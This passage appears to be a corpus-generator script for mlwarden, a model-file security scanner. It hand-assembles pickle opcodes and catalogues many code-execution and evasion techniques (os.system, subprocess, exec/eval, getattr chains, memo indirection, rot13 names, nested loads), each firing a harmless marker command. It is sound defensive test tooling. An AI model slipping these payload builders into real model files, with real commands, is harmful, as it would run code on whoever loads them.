#!/usr/bin/env python3
"""Generate the mlwarden evaluation corpus: malicious, benign and malformed model files.

Usage::

    python scripts/gen_corpus.py OUT_DIR [--marker PATH] [--scale small|full] [--seed N]
    python scripts/gen_corpus.py --examples DIR      # the small stdlib-only examples folder

Writes ``OUT_DIR/{malicious,benign,malformed}/...`` and ``OUT_DIR/manifest.json`` (a JSON list of
``{"path", "label", "family", "format", "description"}`` plus, for malicious files, ``"technique"``:
the payload technique embedded in the container).

SAFETY: nothing here ever loads what it writes. Every malicious payload is harmless: it calls a genuinely
dangerous callable (``os.system``, ``subprocess.call``, ``builtins.exec`` ...) whose argument would only
create an empty marker file (default ``/tmp/mlwarden-corpus-marker``), connect to 127.0.0.1 port 9
(the discard port), or list / read a well-known world-readable file. Loading a malicious file with an
unsafe loader (``pickle.load``, ``torch.load(weights_only=False)``, ``joblib.load`` ...) *would* run the
payload; only ``tests/integration/test_payloads_fire.py`` does that, inside an audit-hooked subprocess.

Everything is deterministic for a given ``--seed`` (fixed zip/tar/gzip timestamps, seeded RNGs).
The generator is importable: ``generate(out_dir, scale="small", marker=DEFAULT_MARKER, seed=0)``
returns the manifest list.
"""

from __future__ import annotations

import argparse
import base64
import bz2
import codecs
import collections
import datetime as dt
import decimal
import gzip
import hashlib
import importlib.util
import io
import json
import lzma
import marshal
import pickle
import pickletools
import random
import shlex
import struct
import sys
import tarfile
import time
import types
import uuid
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

DEFAULT_MARKER = "/tmp/mlwarden-corpus-marker"
LABELS = ("malicious", "benign", "malformed")
ZIP_DATE = (1980, 1, 1, 0, 0, 0)
MODELS_MODULE = "mlwarden_corpus_models"


# ---------------------------------------------------------------------------------------------------------
# Output bookkeeping
# ---------------------------------------------------------------------------------------------------------


@dataclass
class Ctx:
    root: Path
    scale: str
    marker: str
    seed: int
    rng: random.Random
    manifest: list[dict[str, str]] = field(default_factory=list)
    _paths: set[str] = field(default_factory=set)

    @property
    def full(self) -> bool:
        return self.scale == "full"

    def n(self, small: int, full: int) -> int:
        return full if self.full else small

    def pick(self, items: Sequence[Any], small: int, full: int | None = None) -> list[Any]:
        k = min(len(items), self.n(small, full if full is not None else len(items)))
        if k >= len(items):
            return list(items)
        idx = sorted(self.rng.sample(range(len(items)), k))
        return [items[i] for i in idx]

    def path(self, label: str, rel: str) -> Path:
        assert label in LABELS
        full_rel = f"{label}/{rel}"
        if full_rel in self._paths:
            raise ValueError(f"duplicate corpus path {full_rel}")
        self._paths.add(full_rel)
        p = self.root / full_rel
        p.parent.mkdir(parents=True, exist_ok=True)
        return p

    def record(self, label: str, rel: str, family: str, fmt: str, description: str, **extra: str) -> None:
        entry = {
            "path": f"{label}/{rel}",
            "label": label,
            "family": family,
            "format": fmt,
            "description": description,
        }
        entry.update(extra)
        self.manifest.append(entry)

    def write(
        self, label: str, rel: str, data: bytes, family: str, fmt: str, description: str, **extra: str
    ) -> Path:
        p = self.path(label, rel)
        p.write_bytes(data)
        self.record(label, rel, family, fmt, description, **extra)
        return p


@dataclass(frozen=True)
class Marker:
    path: str

    @property
    def cmd(self) -> str:
        return f"touch {shlex.quote(self.path)}"

    @property
    def argv(self) -> list[str]:
        return ["touch", self.path]

    @property
    def pysrc(self) -> str:
        return f"open({self.path!r}, 'w').close()"

    @property
    def pyexpr(self) -> str:
        return f"__import__('os').system({self.cmd!r})"


# ---------------------------------------------------------------------------------------------------------
# Deterministic container helpers
# ---------------------------------------------------------------------------------------------------------


def zip_bytes(members: Iterable[tuple[str, bytes]], *, compress: bool = False, comment: bytes = b"") -> bytes:
    buf = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = method
            info.external_attr = 0o644 << 16
            zf.writestr(info, data)
        zf.comment = comment
    return buf.getvalue()


def zip_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def tar_bytes(members: Iterable[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            info.mode = 0o644
            info.uname = info.gname = ""
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gzip_bytes(data: bytes) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0, filename="") as gz:
        gz.write(data)
    return buf.getvalue()


def sevenz_bytes(members: Iterable[tuple[str, bytes]], tmp: Path) -> bytes:
    from unittest import mock

    import py7zr

    stamp = py7zr.helpers.ArchiveTimestamp.from_datetime(1704067200.0)  # fixed: 2024-01-01T00:00:00Z
    tmp.parent.mkdir(parents=True, exist_ok=True)
    with (
        mock.patch.object(py7zr.helpers.ArchiveTimestamp, "from_now", classmethod(lambda cls: stamp)),
        py7zr.SevenZipFile(tmp, "w") as z,
    ):
        for name, data in members:
            z.writestr(data, name)
    data = tmp.read_bytes()
    tmp.unlink()
    return data


def npy_header(descr: str, shape: tuple[int, ...], fortran: bool = False) -> bytes:
    d = "{'descr': %r, 'fortran_order': %s, 'shape': %r, }" % (descr, fortran, shape)  # noqa: UP031
    total = 10 + len(d) + 1
    pad = (64 - total % 64) % 64
    header = d + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")


def npy_save_bytes(arr: Any, allow_pickle: bool = False) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=allow_pickle)
    return buf.getvalue()


def npz_bytes(arrays: dict[str, Any], *, compress: bool = False, allow_pickle: bool = False) -> bytes:
    return zip_bytes(
        [(f"{k}.npy", npy_save_bytes(v, allow_pickle)) for k, v in arrays.items()], compress=compress
    )


def patch_zip_crc(data: bytes, member: str) -> bytes:
    """Flip the CRC-32 of `member` in both its local header and its central-directory entry."""
    out = bytearray(data)
    name = member.encode()
    pos = 0
    while (pos := out.find(b"PK\x03\x04", pos)) != -1:
        nlen = struct.unpack_from("<H", out, pos + 26)[0]
        if bytes(out[pos + 30 : pos + 30 + nlen]) == name:
            struct.pack_into("<I", out, pos + 14, struct.unpack_from("<I", out, pos + 14)[0] ^ 0xDEADBEEF)
        pos += 4
    pos = 0
    while (pos := out.find(b"PK\x01\x02", pos)) != -1:
        nlen = struct.unpack_from("<H", out, pos + 28)[0]
        if bytes(out[pos + 46 : pos + 46 + nlen]) == name:
            struct.pack_into("<I", out, pos + 16, struct.unpack_from("<I", out, pos + 16)[0] ^ 0xDEADBEEF)
        pos += 4
    return bytes(out)


def overwrite_local_magic(data: bytes, member: str | None = None, new: bytes = b"\x00\x00\x00\x00") -> bytes:
    """Overwrite the local-file-header signature(s); the central directory stays intact."""
    out = bytearray(data)
    cd = out.rfind(b"PK\x05\x06")
    cd_off = struct.unpack_from("<I", out, cd + 16)[0]
    pos = 0
    while (pos := out.find(b"PK\x03\x04", pos)) != -1 and pos < cd_off:
        nlen = struct.unpack_from("<H", out, pos + 26)[0]
        if member is None or bytes(out[pos + 30 : pos + 30 + nlen]) == member.encode():
            out[pos : pos + 4] = new
        pos += 4
    return bytes(out)


# ---------------------------------------------------------------------------------------------------------
# Raw pickle opcode builder
# ---------------------------------------------------------------------------------------------------------


def _p0_unicode(text: str) -> bytes:
    esc = (
        text.replace("\\", "\\u005c")
        .replace("\0", "\\u0000")
        .replace("\n", "\\u000a")
        .replace("\r", "\\u000d")
        .replace("\x1a", "\\u001a")
    )
    return b"V" + esc.encode("raw-unicode-escape") + b"\n"


class PB:
    """Hand-assembles pickle opcodes. Each method returns bytes that push one value."""

    def __init__(self, proto: int) -> None:
        self.proto = proto

    # scalars -------------------------------------------------------------------------------------------
    def s(self, text: str, style: str | None = None) -> bytes:
        data = text.encode("utf-8")
        style = style or ("unicode" if self.proto == 0 else "short" if self.proto >= 4 else "bin")
        if style == "unicode":
            return _p0_unicode(text)
        if style == "short" and len(data) < 256:
            return b"\x8c" + bytes([len(data)]) + data
        if style == "bin8":
            return b"\x8d" + struct.pack("<Q", len(data)) + data
        if style == "string":  # protocol-0 STRING, decoded as ASCII str by Python 3
            return b"S" + repr(text).encode("ascii") + b"\n"
        return b"X" + struct.pack("<I", len(data)) + data

    def by(self, data: bytes) -> bytes:
        if self.proto >= 3:
            if len(data) < 256:
                return b"C" + bytes([len(data)]) + data
            return b"B" + struct.pack("<I", len(data)) + data
        return self.call(self.g("_codecs", "encode"), self.s(data.decode("latin-1")), self.s("latin1"))

    def i(self, n: int) -> bytes:
        if self.proto >= 1 and 0 <= n < 256:
            return b"K" + bytes([n])
        if self.proto >= 1 and 0 <= n < 65536:
            return b"M" + struct.pack("<H", n)
        if self.proto >= 1 and -(2**31) <= n < 2**31:
            return b"J" + struct.pack("<i", n)
        return b"I%d\n" % n

    def none(self) -> bytes:
        return b"N"

    def false(self) -> bytes:
        return b"\x89" if self.proto >= 2 else b"I00\n"

    # references ----------------------------------------------------------------------------------------
    def g(self, mod: str, name: str, *, stack: bool | None = None) -> bytes:
        use_stack = (self.proto >= 4) if stack is None else stack
        if use_stack:
            return self.s(mod) + self.s(name) + b"\x93"
        return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"

    # containers ----------------------------------------------------------------------------------------
    def tup(self, *items: bytes) -> bytes:
        if not items:
            return b")" if self.proto >= 1 else b"(t"
        if self.proto >= 2 and len(items) <= 3:
            return b"".join(items) + {1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(items)]
        return b"(" + b"".join(items) + b"t"

    def lst(self, *items: bytes) -> bytes:
        return b"(" + b"".join(items) + b"l"

    def dct(self, *pairs: tuple[bytes, bytes]) -> bytes:
        return b"(" + b"".join(k + v for k, v in pairs) + b"d"

    def strs(self, values: Sequence[str]) -> bytes:
        return self.lst(*(self.s(v) for v in values))

    # calls ---------------------------------------------------------------------------------------------
    def call(self, f: bytes, *args: bytes) -> bytes:
        return f + self.tup(*args) + b"R"

    def getattr(self, obj: bytes, name: str) -> bytes:
        return self.call(self.g("builtins", "getattr"), obj, self.s(name))

    def imp(self, mod: str) -> bytes:
        return self.call(self.g("builtins", "__import__"), self.s(mod))

    # memo ----------------------------------------------------------------------------------------------
    def put(self, idx: int, style: str = "bin") -> bytes:
        if style == "text":
            return b"p%d\n" % idx
        if style == "long" or idx > 255:
            return b"r" + struct.pack("<I", idx)
        return b"q" + bytes([idx])

    def get(self, idx: int, style: str = "bin") -> bytes:
        if style == "text":
            return b"g%d\n" % idx
        if style == "long" or idx > 255:
            return b"j" + struct.pack("<I", idx)
        return b"h" + bytes([idx])

    # whole pickle --------------------------------------------------------------------------------------
    def wrap(self, body: bytes, *, frame: bool = True) -> bytes:
        head = b"\x80" + bytes([self.proto]) if self.proto >= 2 else b""
        full = body + b"."
        if self.proto >= 4 and frame:
            return head + b"\x95" + struct.pack("<Q", len(full)) + full
        return head + full


def inject(original: bytes, body: bytes, proto: int = 2) -> bytes:
    """Fickling-style injection: run `body` (then POP its result) before the original pickle's opcodes.

    The PROTO header is raised to `proto` when the body needs it (dotted STACK_GLOBAL names, MEMOIZE ...);
    the original protocol-2 opcodes stay valid under a higher header.
    """
    if original[:1] == b"\x80":
        return b"\x80" + bytes([max(original[1], proto)]) + body + b"0" + original[2:]
    return body + b"0" + original


def pp(p: Payload, want: int) -> int:
    """The protocol closest to `want` that payload `p` supports."""
    return min(max(want, p.min_proto), p.max_proto)


def pickle_boundaries(data: bytes, limit: int = 5) -> list[tuple[int, int]]:
    """(start, end) of the first `limit` consecutive pickles at the start of `data`."""
    spans: list[tuple[int, int]] = []
    pos = 0
    while pos < len(data) and len(spans) < limit:
        bio = io.BytesIO(data[pos:])
        end = None
        try:
            for op, _arg, off in pickletools.genops(bio):
                if op.name == "STOP":
                    end = pos + off + 1
                    break
        except (ValueError, EOFError):
            break
        if end is None:
            break
        spans.append((pos, end))
        pos = end
    return spans


# ---------------------------------------------------------------------------------------------------------
# Payload expressions: fn(pb, marker) -> bytes pushing the *result* of the dangerous call
# ---------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    key: str
    family: str
    description: str
    build: Callable[[PB, Marker], bytes]
    min_proto: int = 0
    max_proto: int = 5
    fires: bool = True  # False: dangerous, but needs something outside the file (registry, Windows ...)


def _body_build_trick(cls_mod: str, cls_name: str, *, newobj: bool) -> Callable[[PB, Marker], bytes]:
    def build(pb: PB, m: Marker) -> bytes:
        inst = pb.g(cls_mod, cls_name) + pb.tup() + b"\x81" if newobj else pb.call(pb.g(cls_mod, cls_name))
        return inst + pb.dct((pb.s("__setstate__"), pb.g("os", "system"))) + b"b" + pb.s(m.cmd) + b"b"

    return build


def _partial_setstate(pb: PB, func: bytes, args: bytes, kwargs: bytes) -> bytes:
    """functools.partial(func) whose args/keywords are then set by BUILD -> partial.__setstate__."""
    return pb.call(pb.g("functools", "partial"), func) + pb.tup(func, args, kwargs, pb.none()) + b"b"


def _nested_torch(pb: PB, m: Marker, ctx_inner: dict[str, bytes]) -> bytes:
    loader = _partial_setstate(
        pb, pb.g("torch", "load"), pb.tup(), pb.dct((pb.s("weights_only"), pb.false()))
    )
    return pb.call(loader, pb.call(pb.g("io", "BytesIO"), pb.by(ctx_inner["torch_zip"])))


def _inner_pickle(m: Marker) -> bytes:
    pb = PB(2)
    return pb.wrap(pb.call(pb.g("os", "system"), pb.s(m.cmd)))


def _marshal_code(m: Marker) -> bytes:
    code = compile(m.pysrc, "<payload>", "exec")
    return marshal.dumps(code)


INNER: dict[str, bytes] = {}  # filled by generate(): inner torch zip / npy payloads for nested techniques


def payloads() -> list[Payload]:
    P = Payload  # noqa: N806
    out: list[Payload] = []
    add = out.append

    # os-system -----------------------------------------------------------------------------------------
    add(
        P(
            "os_system",
            "os-system",
            "os.system(touch marker) via GLOBAL os system + REDUCE",
            lambda pb, m: pb.call(pb.g("os", "system"), pb.s(m.cmd)),
        )
    )
    add(
        P(
            "posix_system",
            "os-system",
            "posix.system (what pickle.dumps emits for os.system)",
            lambda pb, m: pb.call(pb.g("posix", "system"), pb.s(m.cmd)),
        )
    )
    add(
        P(
            "nt_system",
            "os-system",
            "nt.system (Windows spelling of os.system)",
            lambda pb, m: pb.call(pb.g("nt", "system"), pb.s(m.cmd)),
            fires=False,
        )
    )
    add(
        P(
            "os_system_p0string",
            "os-system",
            "os.system with a protocol-0 STRING argument",
            lambda pb, m: pb.call(pb.g("os", "system"), pb.s(m.cmd, "string")),
            max_proto=3,
        )
    )
    # os-process ----------------------------------------------------------------------------------------
    add(
        P(
            "os_popen",
            "os-process",
            "os.popen(touch marker)",
            lambda pb, m: pb.call(pb.g("os", "popen"), pb.s(m.cmd)),
        )
    )
    add(
        P(
            "os_spawnlp",
            "os-process",
            "os.spawnlp(P_WAIT, 'touch', 'touch', marker)",
            lambda pb, m: pb.call(pb.g("os", "spawnlp"), pb.i(0), pb.s("touch"), pb.s("touch"), pb.s(m.path)),
        )
    )
    add(
        P(
            "os_posix_spawnp",
            "os-process",
            "os.posix_spawnp('touch', argv, {})",
            lambda pb, m: pb.call(pb.g("os", "posix_spawnp"), pb.s("touch"), pb.strs(m.argv), pb.dct()),
        )
    )
    add(
        P(
            "os_execvp",
            "os-process",
            "os.execvp('touch', argv) replaces the loading process",
            lambda pb, m: pb.call(pb.g("os", "execvp"), pb.s("touch"), pb.strs(m.argv)),
        )
    )
    add(
        P(
            "pty_spawn",
            "os-process",
            "pty.spawn(argv)",
            lambda pb, m: pb.call(pb.g("pty", "spawn"), pb.strs(m.argv)),
        )
    )
    add(
        P(
            "posixsubprocess_fork_exec",
            "os-process",
            "_posixsubprocess.fork_exec (argument list is version-specific; detection sample)",
            lambda pb, m: pb.call(
                pb.g("_posixsubprocess", "fork_exec"),
                pb.strs(m.argv),
                pb.lst(pb.by(b"/usr/bin/touch")),
                pb.false(),
            ),
            fires=False,
        )
    )
    add(
        P(
            "distutils_spawn",
            "os-process",
            "distutils.spawn.spawn(argv)",
            lambda pb, m: pb.call(pb.g("distutils.spawn", "spawn"), pb.strs(m.argv)),
            fires=False,
        )
    )
    # subprocess ----------------------------------------------------------------------------------------
    for fn in ("call", "Popen", "check_call", "check_output", "run"):
        add(
            P(
                f"subprocess_{fn.lower()}",
                "subprocess",
                f"subprocess.{fn}(['touch', marker])",
                lambda pb, m, fn=fn: pb.call(pb.g("subprocess", fn), pb.strs(m.argv)),
            )
        )
    for fn in ("getoutput", "getstatusoutput"):
        add(
            P(
                f"subprocess_{fn}",
                "subprocess",
                f"subprocess.{fn}('touch marker') (shell)",
                lambda pb, m, fn=fn: pb.call(pb.g("subprocess", fn), pb.s(m.cmd)),
            )
        )
    # builtins-eval-exec -------------------------------------------------------------------------------
    add(
        P(
            "builtins_exec",
            "builtins-eval-exec",
            "builtins.exec(python source that creates the marker)",
            lambda pb, m: pb.call(pb.g("builtins", "exec"), pb.s(m.pysrc)),
        )
    )
    add(
        P(
            "builtins_eval",
            "builtins-eval-exec",
            "builtins.eval(\"__import__('os').system(...)\")",
            lambda pb, m: pb.call(pb.g("builtins", "eval"), pb.s(m.pyexpr)),
        )
    )
    add(
        P(
            "builtin_eval_py2",
            "builtins-eval-exec",
            "__builtin__.eval (Python-2 name, fix_imports maps it)",
            lambda pb, m: pb.call(pb.g("__builtin__", "eval", stack=False), pb.s(m.pyexpr)),
            max_proto=2,
        )
    )
    add(
        P(
            "exec_compile",
            "builtins-eval-exec",
            "builtins.exec(builtins.compile(src, '<x>', 'exec'))",
            lambda pb, m: pb.call(
                pb.g("builtins", "exec"),
                pb.call(pb.g("builtins", "compile"), pb.s(m.pysrc), pb.s("<x>"), pb.s("exec")),
            ),
        )
    )
    add(
        P(
            "exec_globals",
            "builtins-eval-exec",
            "builtins.exec(src, {}) with an explicit globals dict",
            lambda pb, m: pb.call(pb.g("builtins", "exec"), pb.s(m.pysrc), pb.dct()),
        )
    )
    # getattr-chain -------------------------------------------------------------------------------------
    add(
        P(
            "getattr_import_os",
            "getattr-chain",
            "builtins.getattr(builtins.__import__('os'), 'system')(cmd)",
            lambda pb, m: pb.call(pb.getattr(pb.imp("os"), "system"), pb.s(m.cmd)),
        )
    )
    add(
        P(
            "getattr_importlib",
            "getattr-chain",
            "getattr(importlib.import_module('subprocess'), 'call')(argv)",
            lambda pb, m: pb.call(
                pb.getattr(pb.call(pb.g("importlib", "import_module"), pb.s("subprocess")), "call"),
                pb.strs(m.argv),
            ),
        )
    )
    add(
        P(
            "attrgetter_chain",
            "getattr-chain",
            "operator.attrgetter('system')(__import__('os'))(cmd)",
            lambda pb, m: pb.call(
                pb.call(pb.call(pb.g("operator", "attrgetter"), pb.s("system")), pb.imp("os")), pb.s(m.cmd)
            ),
        )
    )
    add(
        P(
            "sys_modules_get",
            "getattr-chain",
            "getattr(sys.modules.get('os'), 'system')(cmd)",
            lambda pb, m: pb.call(
                pb.getattr(pb.call(pb.getattr(pb.g("sys", "modules"), "get"), pb.s("os")), "system"),
                pb.s(m.cmd),
            ),
        )
    )
    add(
        P(
            "vars_builtins_getitem",
            "getattr-chain",
            "operator.getitem(vars(__import__('builtins')), 'eval')(expr)",
            lambda pb, m: pb.call(
                pb.call(
                    pb.g("operator", "getitem"),
                    pb.call(pb.g("builtins", "vars"), pb.imp("builtins")),
                    pb.s("eval"),
                ),
                pb.s(m.pyexpr),
            ),
        )
    )
    # memo-indirection ----------------------------------------------------------------------------------
    add(
        P(
            "memo_binput",
            "memo-indirection",
            "os.system stored with BINPUT, stack cleared, fetched by BINGET",
            lambda pb, m: (
                pb.g("os", "system")
                + pb.put(7)
                + b"0"
                + pb.s(m.cmd)
                + pb.put(8)
                + b"0"
                + pb.get(7)
                + pb.get(8)
                + b"\x85R"
            ),
            min_proto=2,
        )
    )
    add(
        P(
            "memo_text",
            "memo-indirection",
            "protocol-0 PUT/GET text memo ops around subprocess.call",
            lambda pb, m: (
                pb.g("subprocess", "call")
                + pb.put(1, "text")
                + b"0"
                + pb.get(1, "text")
                + b"("
                + pb.strs(m.argv)
                + b"tR"
            ),
        )
    )
    add(
        P(
            "memo_long",
            "memo-indirection",
            "LONG_BINPUT/LONG_BINGET at index 100000",
            lambda pb, m: (
                pb.g("builtins", "exec") + pb.put(100000) + b"0" + pb.get(100000) + pb.s(m.pysrc) + b"\x85R"
            ),
            min_proto=2,
        )
    )
    add(
        P(
            "memo_memoize",
            "memo-indirection",
            "MEMOIZE (protocol 4) then BINGET of the implicit index",
            lambda pb, m: (
                pb.s("os")
                + b"\x94"
                + pb.s("system")
                + b"\x94"
                + b"0"
                + b"0"
                + pb.get(0)
                + pb.get(1)
                + b"\x93"
                + b"\x94"
                + b"0"
                + pb.get(2)
                + pb.s(m.cmd)
                + b"\x85R"
            ),
            min_proto=4,
        )
    )
    add(
        P(
            "memo_overwrite",
            "memo-indirection",
            "memo slot first holds collections.OrderedDict, then is overwritten with os.system before use",
            lambda pb, m: (
                pb.g("collections", "OrderedDict")
                + pb.put(3)
                + b"0"
                + pb.g("os", "system")
                + pb.put(3)
                + b"0"
                + pb.get(3)
                + pb.s(m.cmd)
                + b"\x85R"
            ),
            min_proto=2,
        )
    )
    # stack-global-dynamic ------------------------------------------------------------------------------
    add(
        P(
            "sg_memo_strings",
            "stack-global-dynamic",
            "STACK_GLOBAL whose module/name strings come from memo",
            lambda pb, m: (
                pb.s("system")
                + pb.put(10)
                + b"0"
                + pb.s("os")
                + pb.put(11)
                + b"0"
                + pb.get(11)
                + pb.get(10)
                + b"\x93"
                + pb.s(m.cmd)
                + b"\x85R"
            ),
            min_proto=4,
        )
    )
    add(
        P(
            "sg_operator_add",
            "stack-global-dynamic",
            "module name computed at load: operator.add('o', 's')",
            lambda pb, m: (
                pb.call(pb.g("operator", "add"), pb.s("o"), pb.s("s"))
                + pb.s("system")
                + b"\x93"
                + pb.s(m.cmd)
                + b"\x85R"
            ),
            min_proto=4,
        )
    )
    add(
        P(
            "sg_rot13",
            "stack-global-dynamic",
            "module/name decoded at load with codecs.decode(..., 'rot13')",
            lambda pb, m: (
                pb.call(pb.g("codecs", "decode"), pb.s(codecs.encode("subprocess", "rot13")), pb.s("rot13"))
                + pb.call(pb.g("codecs", "decode"), pb.s(codecs.encode("call", "rot13")), pb.s("rot13"))
                + b"\x93"
                + pb.strs(m.argv)
                + b"\x85R"
            ),
            min_proto=4,
        )
    )
    add(
        P(
            "sg_dotted",
            "stack-global-dynamic",
            "dotted attribute path: STACK_GLOBAL('posixpath', 'os.system')",
            lambda pb, m: pb.s("posixpath") + pb.s("os.system") + b"\x93" + pb.s(m.cmd) + b"\x85R",
            min_proto=4,
        )
    )
    add(
        P(
            "sg_dotted_os_path",
            "stack-global-dynamic",
            "dotted path through a module: ('os', 'path.os.system')",
            lambda pb, m: pb.s("os") + pb.s("path.os.system") + b"\x93" + pb.s(m.cmd) + b"\x85R",
            min_proto=4,
        )
    )
    add(
        P(
            "global_dotted_p4",
            "stack-global-dynamic",
            "text GLOBAL with a dotted name under PROTO 4",
            lambda pb, m: (
                pb.g("builtins", "__import__.__self__.exec", stack=False) + pb.s(m.pysrc) + b"\x85R"
            ),
            min_proto=4,
        )
    )
    add(
        P(
            "sg_binunicode8",
            "stack-global-dynamic",
            "STACK_GLOBAL with BINUNICODE8 strings",
            lambda pb, m: (
                pb.s("os", "bin8") + pb.s("system", "bin8") + b"\x93" + pb.s(m.cmd, "bin8") + b"\x85R"
            ),
            min_proto=4,
        )
    )
    # inst-obj-opcodes ----------------------------------------------------------------------------------
    add(
        P(
            "inst_os_system",
            "inst-obj-opcodes",
            "INST os system: MARK arg INST calls os.system(arg)",
            lambda pb, m: b"(" + pb.s(m.cmd) + b"ios\nsystem\n",
        )
    )
    add(
        P(
            "inst_subprocess",
            "inst-obj-opcodes",
            "INST subprocess Popen with an argv list",
            lambda pb, m: b"(" + pb.strs(m.argv) + b"isubprocess\nPopen\n",
        )
    )
    add(
        P(
            "obj_exec",
            "inst-obj-opcodes",
            "OBJ: MARK builtins.exec src OBJ calls exec(src)",
            lambda pb, m: b"(" + pb.g("builtins", "exec") + pb.s(m.pysrc) + b"o",
            min_proto=1,
        )
    )
    add(
        P(
            "obj_eval",
            "inst-obj-opcodes",
            "OBJ with builtins.eval",
            lambda pb, m: b"(" + pb.g("builtins", "eval") + pb.s(m.pyexpr) + b"o",
            min_proto=1,
        )
    )
    add(
        P(
            "newobj_partial",
            "inst-obj-opcodes",
            "NEWOBJ functools.partial(os.system, cmd) then REDUCE ()",
            lambda pb, m: (
                pb.g("functools", "partial")
                + pb.tup(pb.g("os", "system"), pb.s(m.cmd))
                + b"\x81"
                + pb.tup()
                + b"R"
            ),
            min_proto=2,
        )
    )
    add(
        P(
            "newobj_ex_partial",
            "inst-obj-opcodes",
            "NEWOBJ_EX partial(subprocess.run, argv, check=False)()",
            lambda pb, m: (
                pb.g("functools", "partial")
                + pb.tup(pb.g("subprocess", "run"), pb.strs(m.argv))
                + pb.dct((pb.s("check"), pb.false()))
                + b"\x92"
                + pb.tup()
                + b"R"
            ),
            min_proto=4,
        )
    )
    # build-setstate ------------------------------------------------------------------------------------
    add(
        P(
            "build_setstate_ns",
            "build-setstate",
            "BUILD puts __setstate__=os.system in a SimpleNamespace's __dict__; a second BUILD calls it",
            _body_build_trick("types", "SimpleNamespace", newobj=True),
            min_proto=2,
        )
    )
    add(
        P(
            "build_setstate_argparse",
            "build-setstate",
            "same BUILD/__setstate__ trick on argparse.Namespace",
            _body_build_trick("argparse", "Namespace", newobj=False),
        )
    )
    add(
        P(
            "build_slotstate",
            "build-setstate",
            "BUILD (None, {'__setstate__': os.system}) slot-state setattr",
            lambda pb, m: (
                pb.call(pb.g("argparse", "Namespace"))
                + pb.tup(pb.none(), pb.dct((pb.s("__setstate__"), pb.g("os", "system"))))
                + b"b"
                + pb.s(m.cmd)
                + b"b"
            ),
        )
    )
    add(
        P(
            "build_partial_state",
            "build-setstate",
            "functools.partial state set by BUILD, then called",
            lambda pb, m: pb.call(_partial_setstate(pb, pb.g("os", "system"), pb.tup(pb.s(m.cmd)), pb.dct())),
        )
    )
    # ext-copyreg ---------------------------------------------------------------------------------------
    for op, code in (("EXT1", 0xF1), ("EXT2", 0xBEEF), ("EXT4", 0x01ABCDEF)):

        def _ext(pb: PB, m: Marker, op: str = op, code: int = code) -> bytes:
            reg = pb.call(pb.g("copyreg", "add_extension"), pb.s("os"), pb.s("system"), pb.i(code)) + b"0"
            if op == "EXT1":
                ext = b"\x82" + bytes([code])
            elif op == "EXT2":
                ext = b"\x83" + struct.pack("<H", code)
            else:
                ext = b"\x84" + struct.pack("<i", code)
            return reg + ext + pb.s(m.cmd) + b"\x85R"

        add(
            P(
                f"ext_self_registering_{op.lower()}",
                "ext-copyreg",
                f"copyreg.add_extension('os','system',{code:#x}) then {op} fetches os.system",
                _ext,
                min_proto=2,
            )
        )
    add(
        P(
            "ext_bare",
            "ext-copyreg",
            "bare EXT2 code 0x1337 (os.system in a pre-registered copyreg table)",
            lambda pb, m: b"\x83" + struct.pack("<H", 0x1337) + pb.s(m.cmd) + b"\x85R",
            min_proto=2,
            fires=False,
        )
    )
    # nested-pickle-loads -------------------------------------------------------------------------------
    for mod, fn in (("pickle", "loads"), ("_pickle", "loads"), ("dill", "loads")):
        add(
            P(
                f"nested_{mod.strip('_')}_{fn}",
                "nested-pickle-loads",
                f"{mod}.{fn}(bytes of an os.system pickle)",
                lambda pb, m, mod=mod, fn=fn: pb.call(pb.g(mod, fn), pb.by(_inner_pickle(m))),
            )
        )
    add(
        P(
            "nested_unpickler",
            "nested-pickle-loads",
            "pickle.Unpickler(io.BytesIO(inner)).load()",
            lambda pb, m: pb.call(
                pb.getattr(
                    pb.call(
                        pb.g("pickle", "Unpickler"), pb.call(pb.g("io", "BytesIO"), pb.by(_inner_pickle(m)))
                    ),
                    "load",
                )
            ),
        )
    )
    add(
        P(
            "nested_b64",
            "nested-pickle-loads",
            "pickle.loads(base64.b64decode('<inner pickle>'))",
            lambda pb, m: pb.call(
                pb.g("pickle", "loads"),
                pb.call(pb.g("base64", "b64decode"), pb.s(base64.b64encode(_inner_pickle(m)).decode())),
            ),
        )
    )
    add(
        P(
            "nested_zlib",
            "nested-pickle-loads",
            "pickle.loads(zlib.decompress(<compressed inner pickle>))",
            lambda pb, m: pb.call(
                pb.g("pickle", "loads"),
                pb.call(pb.g("zlib", "decompress"), pb.by(zlib.compress(_inner_pickle(m)))),
            ),
        )
    )
    add(
        P(
            "nested_hex",
            "nested-pickle-loads",
            "_pickle.loads(codecs.decode('<hex>', 'hex'))",
            lambda pb, m: pb.call(
                pb.g("_pickle", "loads"),
                pb.call(pb.g("codecs", "decode"), pb.s(_inner_pickle(m).hex()), pb.s("hex")),
            ),
        )
    )
    add(
        P(
            "nested_torch_load",
            "nested-pickle-loads",
            "partial(torch.load, weights_only=False)(io.BytesIO(<torch zip with injected payload>))",
            lambda pb, m: _nested_torch(pb, m, INNER),
            min_proto=3,
        )
    )
    add(
        P(
            "nested_numpy_load",
            "nested-pickle-loads",
            "numpy.load(io.BytesIO(<object .npy>), None, True) (allow_pickle positional)",
            lambda pb, m: pb.call(
                pb.g("numpy", "load"), pb.call(pb.g("io", "BytesIO"), pb.by(INNER["npy"])), pb.none(), b"\x88"
            ),
            min_proto=3,
        )
    )
    add(
        P(
            "nested_pandas",
            "nested-pickle-loads",
